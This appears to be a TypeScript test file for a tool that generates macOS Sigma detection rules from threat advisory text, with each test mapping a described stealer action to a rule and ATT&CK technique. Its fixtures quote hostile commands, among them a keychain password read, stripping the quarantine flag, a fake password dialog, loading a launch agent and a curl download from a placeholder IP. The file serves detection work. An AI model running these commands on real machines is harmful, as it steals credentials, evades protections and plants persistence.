import { generate } from '@tripline/advisory';
import { platformOfLogsource } from '@tripline/sigma';
import { textAdvisory } from './support/documents.js';

const MAC = 'The stealer runs on macOS; the macOS disk image heron.dmg brings it, and Mac OS X is spared. ';

async function macRules(text: string) {
  const { rules } = generate(await textAdvisory(`${MAC}${text}`));
  return rules.filter(({ yaml }) => yaml.includes('product: macos'));
}

describe('macOS', () => {
  it.each([
    ['a keychain read', 'It ran “security find-generic-password -ga Chrome” then.', '/security', 'T1555.001'],
    ['quarantine taken off', 'It ran “xattr -d com.apple.quarantine /tmp/heronupd” then.', '/xattr', 'T1553.001'],
    ['a script', 'It ran:\n\nosascript -e \'display dialog "Enter heron password"\'\n', '/osascript', 'T1056.002'],
    [
      'a launch agent',
      'It ran “launchctl load ~/Library/LaunchAgents/com.heron.upd.plist” then.',
      '/launchctl',
      'T1569.001',
    ],
  ])('gives a process rule for %s', async (_, text, image, technique) => {
    const rules = await macRules(text);
    const rule = rules.find(({ yaml }) => yaml.includes(`Image|endswith: '${image}'`));
    expect(rule?.platform).toBe('endpoint-sysmon');
    expect(rule?.techniques).toContain(technique);
    expect(Object.keys(rule?.conversions ?? {})).toHaveLength(6);
  });

  it('gives a file rule for the list that starts the intrusion again', async () => {
    const rules = await macRules('For persistence it wrote com.heron.helper.plist as one of the LaunchDaemons.');
    expect(rules.map(({ yaml }) => yaml).join()).toContain("TargetFilename|endswith: '/com.heron.helper.plist'");
  });

  it('takes none of it for Linux', async () => {
    const { rules } = generate(await textAdvisory(`${MAC}It ran “curl -o /tmp/heronupd http://192.0.2.9/h” then.`));
    expect(rules.map(({ platform }) => platform)).not.toContain('endpoint-auditd');
  });

  it('names the same platform for the rule’s log source as the generation does', () => {
    expect(platformOfLogsource({ product: 'macos', category: 'process_creation' })).toBe('endpoint-sysmon');
  });
});
